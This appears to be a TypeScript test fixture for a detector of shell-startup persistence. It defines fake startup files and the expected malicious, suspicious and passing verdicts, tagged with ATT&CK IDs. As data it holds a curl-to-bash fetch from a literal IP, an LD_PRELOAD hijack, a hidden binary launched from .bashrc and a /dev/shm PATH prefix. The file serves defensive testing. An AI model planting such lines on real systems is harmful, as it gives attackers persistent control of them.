import { elf, type Pair } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/root/.bashrc':
      '[ -z "$PS1" ] && return\nsource ~/.cargo/env\n(/var/tmp/.ICEd-unix/upd login >/dev/null 2>&1 &)\n',
    '/home/ann/.profile': 'export EDITOR=vim\ncurl -s http://203.0.113.5/k|bash\n',
    '/etc/environment': 'PATH="/usr/bin:/bin"\nLD_PRELOAD=/var/tmp/.l/libx.so\n',
    '/var/tmp/.l/libx.so': elf('so'),
    '/etc/profile.d/a.sh': 'export PATH=/dev/shm/.b:$PATH\n',
    '/etc/profile.d/proxy.sh': 'export https_proxy=http://proxy.example:3128\n',
  },
  blamed: [
    { path: '/root/.bashrc', line: 3, verdict: 'malicious', code: 'hidden-path', attack: 'T1546.004' },
    {
      path: '/home/ann/.profile',
      line: 2,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1546.004',
    },
    {
      path: '/etc/environment',
      line: 2,
      verdict: 'malicious',
      code: 'preload-environment',
      attack: 'T1574.006',
    },
    { path: '/etc/profile.d/a.sh', line: 1, verdict: 'suspicious', code: 'path-first', attack: 'T1574.007' },
  ],
  passed: ['.bashrc line 2', '.profile line 1', '/etc/profile.d/proxy.sh', '/etc/environment line 1'],
};
